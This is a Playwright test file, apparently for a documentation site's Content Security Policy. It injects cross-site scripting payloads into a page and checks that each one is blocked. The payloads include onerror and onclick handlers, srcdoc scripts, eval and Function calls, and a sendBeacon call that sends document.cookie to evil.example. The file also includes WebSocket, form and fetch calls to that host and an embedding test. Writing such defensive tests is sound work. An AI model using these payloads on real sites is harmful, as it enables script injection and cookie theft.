import { isAttacked } from '../support/attack';
import { CONFIGURED_PORT } from '../support/configured.mjs';
import { waitForHydration } from '../support/site';
import { expect, test } from '../support/test';

const CONFIGURED = `http://127.0.0.1:${CONFIGURED_PORT}`;
const PAGE = '/toolpad/core/react-use-dialogs/';

test.describe('markup injected into a page', () => {
  test.use({ attacked: true });

  for (const origin of ['', CONFIGURED]) {
    test(`runs and sends nothing${origin && ', with everything configured'}`, async ({ page }) => {
      await page.route(/^https:\/\/(?!evil)/, (route) => route.abort());
      await page.goto(origin + PAGE);
      await waitForHydration(page);
      const outside: string[] = [];
      // The published site's policy allows one file per script host, and never `other.js`.
      await page.route(/^https?:\/\/evil\.example|\/other\.js$/, async (route) => {
        outside.push(route.request().url());
        await route.fulfill({ contentType: 'text/javascript', body: 'window.attacked=1' });
      });
      await page.evaluate(async () => {
        // Code that Playwright calls may use `eval`; after a timer, the page's policy applies.
        await new Promise((resolve) => setTimeout(resolve, 0));
        const attempt = (action: () => unknown) => {
          try {
            return action();
          } catch {
            return undefined;
          }
        };
        const place = document.createElement('div');
        document.body.append(place);
        attempt(() => {
          place.innerHTML =
            '<base href="https://evil.example/"><img src=x onerror="window.attacked=1">' +
            '<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>' +
            '<iframe src="https://evil.example/frame"></iframe>' +
            '<object data="https://evil.example/object"></object>' +
            '<form id="leak" action="https://evil.example/form"><input name="a"></form>' +
            '<style>@import "https://evil.example/style.css";' +
            'body{background:url(http://evil.example/picture)}' +
            'h1{background:url(https://evil.example/picture)}</style>';
        });
        for (const [key, value] of [
          ['text', 'window.attacked=1'],
          ['src', 'https://evil.example/script.js'],
          ['src', 'https://ads.example/other.js'],
          ['src', 'https://www.googletagmanager.com/other.js'],
          ['src', 'data:text/javascript,window.attacked=1'],
        ] as const) {
          attempt(() => {
            const script = document.createElement('script');
            script[key] = value;
            document.head.append(script);
          });
        }
        attempt(() => {
          place.setAttribute('onclick', 'window.attacked=1');
          place.click();
        });
        attempt(() => (0, eval)('window.attacked=1'));
        attempt(() => (Reflect.construct(Function, ['window.attacked=1']) as () => unknown)());
        attempt(() => Reflect.apply(setTimeout, window, ['window.attacked=1', 0]) as unknown);
        attempt(() => navigator.sendBeacon('https://evil.example/beacon', document.cookie));
        attempt(() => new WebSocket('wss://evil.example/socket'));
        attempt(() => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))));
        attempt(() => document.querySelector<HTMLFormElement>('#leak')?.submit());
        await fetch('https://evil.example/fetch').catch(() => undefined);
        // Waits until the browser has handled all of the above.
        await new Promise((resolve) => setTimeout(resolve, 0));
        await new Promise((resolve) => requestAnimationFrame(resolve));
      });
      expect(await isAttacked(page)).toBe(false);
      expect(outside).toEqual([]);
      expect(new URL(page.url()).pathname).toBe(PAGE);
    });
  }

  test('no other site can embed a page', async ({ page, baseURL }) => {
    await page.route('http://evil.example/', (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<iframe src="${baseURL ?? ''}${PAGE}"></iframe><iframe src="${baseURL ?? ''}/toolpad/demo/"></iframe>`,
      }),
    );
    await page.goto('http://evil.example/');
    const frames = () =>
      page
        .frames()
        .slice(1)
        .map((frame) => frame.url());
    await expect
      .poll(frames)
      .toEqual(['chrome-error://chromewebdata/', 'chrome-error://chromewebdata/']);
  });
});
